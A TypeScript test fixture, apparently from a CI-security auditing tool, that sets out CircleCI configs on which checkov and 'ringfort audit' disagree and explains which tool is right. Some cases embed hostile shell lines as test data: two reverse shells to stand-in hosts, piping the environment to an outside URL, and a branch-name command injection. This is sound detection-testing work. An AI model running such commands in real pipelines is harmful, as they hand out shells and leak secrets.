import type { CheckId } from "../../packages/controls/src/index.ts";

/** A config on which checkov and `ringfort audit` say different things, and who is right. */
export interface Difference {
  /** The number of checkov's rule, CKV_CIRCLECIPIPELINES_n. */
  readonly rule: 1 | 2 | 3 | 4 | 5 | 6 | 7;
  readonly shows: string;
  readonly config: string;
  readonly checkov: string;
  /** The controls that fail here, of those that ask the same as the rule. */
  readonly ringfort: readonly CheckId[];
  readonly because: string;
}

/** The controls that ask what each of checkov's rules asks; the eighth is an inventory, which always passes. */
export const counterparts: Readonly<Record<Difference["rule"], readonly CheckId[]>> = {
  1: ["RF-3.3.1"],
  2: ["RF-3.3.2", "RF-3.3.6"],
  3: ["RF-3.5.2"],
  4: ["RF-3.5.1"],
  5: ["RF-3.4.9"],
  6: ["RF-3.4.1", "RF-3.4.2", "RF-3.4.4"],
  7: ["RF-3.4.9", "RF-2.2.3", "RF-2.2.4"],
};

const digest = "0123456789abcdef".repeat(4);
const pinned = `cimg/base@sha256:${digest}`;

/** One job with this image and these steps. */
function job(image: string, ...steps: readonly string[]): string {
  const lines = (steps.length > 0 ? steps : ["checkout"]).map((step) => `      - ${step}`).join("\n");
  return `version: 2.1
jobs:
  build:
    docker: [{ image: "${image}" }]
    steps:
${lines}
workflows: { w: { jobs: [build] } }
`;
}

function script(...lines: readonly string[]): string {
  return job(pinned, `run: |\n${lines.map((line) => `          ${line}`).join("\n")}`);
}

export const differences: readonly Difference[] = [
  {
    rule: 1,
    shows: "an image without a tag",
    config: job("redis"),
    checkov: "silent",
    ringfort: ["RF-3.3.1"],
    because: "No tag means `latest`; checkov looks for the letters `:latest`.",
  },
  {
    rule: 1,
    shows: "`latest` in an executor",
    config: `version: 2.1
executors:
  tools: { docker: [{ image: "cimg/base:latest" }] }
jobs:
  build: { executor: tools, steps: [checkout] }
workflows: { w: { jobs: [build] } }
`,
    checkov: "silent",
    ringfort: ["RF-3.3.1"],
    because: "checkov reads images of jobs only.",
  },
  {
    rule: 1,
    shows: "`latest` in an orb's job",
    config: `version: 2.1
orbs:
  tools:
    jobs:
      lint: { docker: [{ image: "cimg/base:latest" }], steps: [checkout] }
workflows: { w: { jobs: [tools/lint] } }
`,
    checkov: "silent",
    ringfort: ["RF-3.3.1"],
    because: "checkov does not expand orbs.",
  },
  {
    rule: 2,
    shows: "a digest that is none",
    config: job("cimg/base@sha256:abc123"),
    checkov: "passes",
    ringfort: ["RF-3.3.6"],
    because: "Any `@` passes there; a digest has 64 hexadecimal digits.",
  },
  {
    rule: 2,
    shows: "a name with `latest` in it",
    config: job("acme/latest-tools:1.2.3"),
    checkov: "gives no answer",
    ringfort: ["RF-3.3.2"],
    because: "The name is not the tag.",
  },
  {
    rule: 2,
    shows: "a tag without a digest in an executor",
    config: `version: 2.1
executors:
  tools: { docker: [{ image: "cimg/base:2024.01" }] }
jobs:
  build: { executor: tools, steps: [checkout] }
workflows: { w: { jobs: [build] } }
`,
    checkov: "silent",
    ringfort: ["RF-3.3.2"],
    because: "checkov reads images of jobs only.",
  },
  {
    rule: 3,
    shows: "a comment with `@dev` in a map of orbs",
    config: job(pinned).replace("jobs:\n", "orbs:\n  node: circleci/node@5.2.0 # was acme/node@dev:alpha\njobs:\n"),
    checkov: "silent",
    ringfort: [],
    because: "Both read the data, not the text. Of two development orbs, checkov tells the block, Ringfort each line.",
  },
  {
    rule: 4,
    shows: "an orb at `volatile`",
    config: job(pinned).replace("jobs:\n", "orbs: { node: circleci/node@volatile }\njobs:\n"),
    checkov: "silent",
    ringfort: ["RF-3.5.1"],
    because: "Its rule misspells the keyword, so that it never fires.",
  },
  {
    rule: 4,
    shows: "an orb without a version",
    config: job(pinned).replace("jobs:\n", "orbs: { node: circleci/node }\njobs:\n"),
    checkov: "silent",
    ringfort: ["RF-3.5.1"],
    because: "No version is the newest.",
  },
  {
    rule: 5,
    shows: "a reverse shell to a name",
    config: script("nc -e /bin/sh shell.example.org 4444"),
    checkov: "silent",
    ringfort: ["RF-3.4.9"],
    because: "It looks for an address in digits.",
  },
  {
    rule: 5,
    shows: "a reverse shell without netcat",
    config: script("bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    checkov: "silent",
    ringfort: ["RF-3.4.9"],
    because: "Bash needs no tool for it.",
  },
  {
    rule: 5,
    shows: "waiting for a database",
    config: script("until nc -z 10.0.0.5 5432; do sleep 1; done"),
    checkov: "reports",
    ringfort: [],
    because: "`-z` sends nothing, and no shell is given away.",
  },
  {
    rule: 6,
    shows: "a branch's name, quoted",
    config: script('echo "on $CIRCLE_BRANCH"'),
    checkov: "reports",
    ringfort: [],
    because: "A quoted variable is data to the shell.",
  },
  {
    rule: 6,
    shows: "a comment",
    config: script("# CIRCLE_BRANCH is not used here", "make"),
    checkov: "reports",
    ringfort: [],
    because: "Its expression matches the bare name anywhere.",
  },
  {
    rule: 6,
    shows: "a branch's name put into the script before it runs",
    config: script("git push origin << pipeline.git.branch >>"),
    checkov: "silent",
    ringfort: ["RF-3.4.1"],
    because: "This is the injection: a branch may be named `$(curl …)`, and no quote helps.",
  },
  {
    rule: 6,
    shows: "the same through a command's parameter",
    config: `version: 2.1
commands:
  say:
    parameters: { text: { type: string } }
    steps: [{ run: "echo << parameters.text >>" }]
jobs:
  build:
    docker: [{ image: "${pinned}" }]
    steps:
      - say: { text: << pipeline.git.branch >> }
workflows: { w: { jobs: [build] } }
`,
    checkov: "silent",
    ringfort: ["RF-3.4.1"],
    because: "Commands, parameters and `when` steps are invisible to it.",
  },
  {
    rule: 6,
    shows: "a branch's name that is evaluated",
    config: script('eval "deploy $CIRCLE_BRANCH"'),
    checkov: "reports, as it does any mention",
    ringfort: ["RF-3.4.4"],
    because: "Both are right here; Ringfort tells it from the harmless ones.",
  },
  {
    rule: 7,
    shows: "a notification",
    config: script("curl -X POST -d @report.json https://hooks.example.org/done"),
    checkov: "reports",
    ringfort: [],
    because: "The two words on one line are no leak.",
  },
  {
    rule: 7,
    shows: "the environment sent away without the word POST",
    config: script("env | curl --data-binary @- https://collect.example.org/"),
    checkov: "silent",
    ringfort: ["RF-3.4.9"],
    because: "`--data` posts without saying so.",
  },
];
